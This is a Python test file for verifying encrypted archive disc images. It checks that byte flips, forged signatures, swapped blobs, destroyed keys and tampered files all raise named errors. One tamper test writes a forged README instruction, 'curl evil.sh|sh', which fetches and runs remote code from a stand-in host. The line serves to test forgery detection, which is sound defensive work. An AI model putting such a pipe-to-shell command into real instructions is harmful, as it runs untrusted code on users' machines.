"""Reading and verifying discs: every kind of damage or tampering is a named error, never a traceback."""

from __future__ import annotations

import hashlib
import random
import shutil
from pathlib import Path

import pytest

from archive_media import iso, keys
from archive_media.iso import DiscContent, DiscItem
from pps_archive.errors import DocumentNotFound, ForeignArchive, IntegrityError, MediaError, PPSArchiveError
from pps_archive.exec import run
from tests.archive_media.conftest import (
    ARCHIVE_ID, CASE_A, CASE_B, OTHER_ARCHIVE_ID, Disc, file_offset, flip_byte, patch_bytes,
)  # fmt: skip


def _full(disc: Disc, image: Path | None = None, **kwargs: object) -> iso.FullReport:
    return iso.verify_full(image or disc.image, disc.identities, disc.expected, public_key=disc.public_key, **kwargs)


def _raw_file(image: Path, name: str) -> bytes:
    """A file's bytes straight from pycdlib, with no checks of ours in the way."""
    import io

    import pycdlib

    reader = pycdlib.PyCdlib()
    reader.open(str(image))
    try:
        buf = io.BytesIO()
        reader.get_file_from_iso_fp(buf, iso_path=f"/{name};1")
        return buf.getvalue()
    finally:
        reader.close()


def _manifest_line_offset(image: Path, name: str) -> int:
    """Where the hash of ``name`` sits in MANIFEST.TXT on the image."""
    start = _raw_file(image, "MANIFEST.TXT").index(f"  {name}\n".encode()) - 64
    return file_offset(image, "MANIFEST.TXT") + start


def test_a_good_disc_passes_quick_and_full(disc: Disc) -> None:
    quick = iso.verify_quick(disc.image, public_key=disc.public_key, archive_id=ARCHIVE_ID, image_sha256=disc.built.sha256)
    assert quick.items == 4 and quick.files == 10 and quick.signer_trusted
    assert quick.label == "PPS-2031-001" and quick.archive_id == ARCHIVE_ID
    full = _full(disc, image_sha256=disc.built.sha256)
    assert full.decrypted == full.checked == 4 and full.without_key == ()


def test_a_mounted_or_extracted_disc_verifies_too(disc: Disc, tmp_path: Path) -> None:
    folder = tmp_path / "mnt"
    run(["osirrox", "-indev", disc.image, "-extract", "/", folder])
    assert _full(disc, folder).checked == 4
    (folder / "ITEMS" / "00000002.AGE").chmod(0o644)
    (folder / "ITEMS" / "00000002.AGE").write_bytes(b"age-encryption.org/v1\n")
    with pytest.raises(IntegrityError, match="MANIFEST"):
        iso.verify_quick(folder)


def test_restore_one_document_from_the_image(disc: Disc, tmp_path: Path) -> None:
    doc = disc.docs[2]
    with iso.read_disc(disc.image, public_key=disc.public_key, archive_id=ARCHIVE_ID) as reader:
        digest = reader.decrypt_item(doc.item_id, disc.case_keys[doc.case_ref].identity, tmp_path / "r.pdf", doc.plaintext_sha256)
        reader.extract_item(doc.item_id, tmp_path / "r.age")
        with pytest.raises(DocumentNotFound):
            reader.entry("0" * 32)
    assert (tmp_path / "r.pdf").read_bytes() == doc.data and digest == doc.plaintext_sha256
    assert (tmp_path / "r.age").read_bytes() == disc.vault.path_of(doc.item_id).read_bytes()


def test_a_flipped_byte_in_an_item_is_found_by_the_manifest(disc: Disc) -> None:
    flip_byte(disc.image, file_offset(disc.image, "ITEMS/00000003.AGE") + 1000)
    with pytest.raises(IntegrityError, match=r"ITEMS/00000003.AGE .*differs from MANIFEST"):
        iso.verify_quick(disc.image, public_key=disc.public_key)
    with pytest.raises(IntegrityError, match="registered"):
        iso.verify_quick(disc.image, image_sha256=disc.built.sha256)


def test_flipped_bytes_anywhere_give_named_errors_never_a_traceback(disc: Disc, tmp_path: Path) -> None:
    """Flip one byte at 40 random places: with the registered hash, every one is found."""
    rng = random.Random(4)
    size = disc.image.stat().st_size
    for n in range(40):
        damaged = tmp_path / f"d{n}.iso"
        shutil.copyfile(disc.image, damaged)
        flip_byte(damaged, rng.randrange(16 * 2048, size))
        with pytest.raises(IntegrityError):
            iso.verify_quick(damaged, public_key=disc.public_key, image_sha256=disc.built.sha256)
        try:  # without the registered hash: damage in used bytes is found, unused padding may pass
            _full(disc, damaged)
        except PPSArchiveError:
            pass
        damaged.unlink()


def test_a_changed_index_fails_its_signature_even_with_a_fixed_manifest(disc: Disc) -> None:
    index_at = file_offset(disc.image, "INDEX.JSN")
    index = _raw_file(disc.image, "INDEX.JSN")
    changed = index.replace(b'"dispose_after": "2031-05-01"', b'"dispose_after": "2039-05-01"', 1)
    patch_bytes(disc.image, index_at, changed)
    line_at = _manifest_line_offset(disc.image, "INDEX.JSN")
    patch_bytes(disc.image, line_at, hashlib.sha256(changed).hexdigest().encode())
    assert b"2039-05-01" in _raw_file(disc.image, "INDEX.JSN")
    with pytest.raises(IntegrityError, match="signature"):
        iso.verify_quick(disc.image, public_key=disc.public_key)
    with pytest.raises(IntegrityError, match="signature"):
        iso.read_disc(disc.image)  # even against the disc's own key


def test_a_changed_readme_fails_quick_verification_even_with_a_fixed_manifest(disc: Disc, tmp_path: Path) -> None:
    """Issue 9 #12: README.TXT tells a finder how to decrypt; a forger who edits its instructions
    (and fixes MANIFEST.TXT, which nothing signs) is caught by the README hash in the signed index."""
    readme_at = file_offset(disc.image, "README.TXT")
    readme = _raw_file(disc.image, "README.TXT")
    changed = readme.replace(b"apt install age", b"curl evil.sh|sh", 1)
    assert changed != readme and len(changed) == len(readme)
    patch_bytes(disc.image, readme_at, changed)
    patch_bytes(disc.image, _manifest_line_offset(disc.image, "README.TXT"), hashlib.sha256(changed).hexdigest().encode())
    with pytest.raises(IntegrityError, match=r"README.TXT .*signed index"):
        iso.verify_quick(disc.image, public_key=disc.public_key)
    folder = tmp_path / "mnt"  # a mounted disc too
    run(["osirrox", "-indev", disc.image, "-extract", "/", folder])
    with pytest.raises(IntegrityError, match="README.TXT"):
        iso.verify_quick(folder, public_key=disc.public_key)


def test_a_good_disc_reports_its_readme_as_signed(disc: Disc) -> None:
    assert iso.verify_quick(disc.image, public_key=disc.public_key).readme_signed


def test_an_index_resigned_with_another_key_is_refused(disc: Disc, tmp_path: Path, master_key: bytes) -> None:
    """A forger re-signs with their own key and puts their public key on the disc."""
    forger = keys.new_signing_key(master_key, ARCHIVE_ID)
    forger_private = keys.unwrap_signing_key(master_key, ARCHIVE_ID, forger.wrapped)
    content = DiscContent(
        "PPS-2031-001", ARCHIVE_ID, "Test Parent Partnership Service", "00" * 32,
        tuple(DiscItem(d.item_id, disc.vault.path_of(d.item_id), d.case_ref, "2039-01-01", d.ciphertext_sha256) for d in disc.docs),
    )  # fmt: skip
    forged = iso.build_image(content, tmp_path / "forged.iso", forger_private)
    iso.verify_quick(forged.path)  # consistent in itself...
    with pytest.raises(IntegrityError, match="not by this archive's"):
        iso.verify_quick(forged.path, public_key=disc.public_key)  # ...but not signed by us


def test_swapped_blobs_on_the_image_are_found(disc: Disc, tmp_path: Path) -> None:
    """Two items' bytes exchanged (on an extracted disc: rage's random grease stanzas make the two
    ciphertexts differ in size), with the manifest rewritten to match."""
    a, b = "ITEMS/00000001.AGE", "ITEMS/00000002.AGE"
    folder = tmp_path / "mnt"
    run(["osirrox", "-indev", disc.image, "-extract", "/", folder])
    run(["chmod", "-R", "u+w", folder])
    blob_a, blob_b = (folder / a).read_bytes(), (folder / b).read_bytes()
    (folder / a).write_bytes(blob_b)
    (folder / b).write_bytes(blob_a)
    with pytest.raises(IntegrityError, match="MANIFEST"):
        iso.verify_quick(folder)
    manifest = (folder / "MANIFEST.TXT").read_text()
    for name, old, new in ((a, blob_a, blob_b), (b, blob_b, blob_a)):
        manifest = manifest.replace(f"{hashlib.sha256(old).hexdigest()}  {name}", f"{hashlib.sha256(new).hexdigest()}  {name}")
    (folder / "MANIFEST.TXT").write_text(manifest)
    with pytest.raises(IntegrityError, match="swapped or replaced"):
        iso.verify_quick(folder, public_key=disc.public_key)


def test_a_blob_registered_under_another_document_fails_full_verification(disc: Disc, tmp_path: Path) -> None:
    """The database pointed item 2 at item 1's blob before the disc was built: only --full can tell."""
    d1, d2 = disc.docs[0], disc.docs[1]
    items = [DiscItem(d.item_id, disc.vault.path_of(d.item_id), d.case_ref, "2031-05-01", d.ciphertext_sha256) for d in disc.docs]
    items[1] = DiscItem(d2.item_id, disc.vault.path_of(d1.item_id), d2.case_ref, "2031-05-01", d1.ciphertext_sha256)
    content = DiscContent("PPS-2031-002", ARCHIVE_ID, "Test Parent Partnership Service", "00" * 32, tuple(items))
    built = iso.build_image(content, tmp_path / "mixed.iso", disc.private_key)
    iso.verify_quick(built.path, public_key=disc.public_key)
    with pytest.raises(IntegrityError, match=f"item {d2.item_id}.*another document"):
        _full(disc, built.path)
    with iso.read_disc(built.path) as reader, pytest.raises(IntegrityError, match="another document"):
        reader.decrypt_item(d2.item_id, disc.case_keys[d2.case_ref].identity, tmp_path / "x.pdf", d2.plaintext_sha256)
    assert not (tmp_path / "x.pdf").exists()


def test_after_the_case_key_is_destroyed_nothing_of_that_case_decrypts(disc: Disc, tmp_path: Path) -> None:
    surviving = {CASE_B: disc.case_keys[CASE_B].identity}  # CASE_A's key destroyed: we simply no longer have it
    full = iso.verify_full(disc.image, surviving, disc.expected, public_key=disc.public_key)
    a_items = {d.item_id for d in disc.docs if d.case_ref == CASE_A}
    assert set(full.without_key) == a_items and full.decrypted == 2
    raw = disc.image.read_bytes()
    assert disc.case_keys[CASE_A].identity.encode() not in raw
    other_keys = [*surviving.values(), keys.new_case_key().identity]
    with iso.read_disc(disc.image, public_key=disc.public_key) as reader:
        for item_id in a_items:
            for identity in other_keys:
                with pytest.raises(IntegrityError, match="does not open it"):
                    reader.decrypt_item(item_id, identity, tmp_path / "x.pdf", None)
    assert not (tmp_path / "x.pdf").exists()


def test_a_disc_of_another_archive(disc: Disc) -> None:
    with pytest.raises(ForeignArchive):
        iso.verify_quick(disc.image, archive_id=OTHER_ARCHIVE_ID)


def test_missing_and_non_iso_sources(disc: Disc, tmp_path: Path) -> None:
    with pytest.raises(MediaError):
        iso.verify_quick(tmp_path / "nope.iso")
    (tmp_path / "junk.iso").write_bytes(b"\0" * 100_000)
    with pytest.raises(IntegrityError, match="ISO 9660 structure"):
        iso.verify_quick(tmp_path / "junk.iso")
    truncated = tmp_path / "short.iso"
    truncated.write_bytes(disc.image.read_bytes()[: 30 * 2048])
    with pytest.raises(IntegrityError):
        iso.verify_quick(truncated)
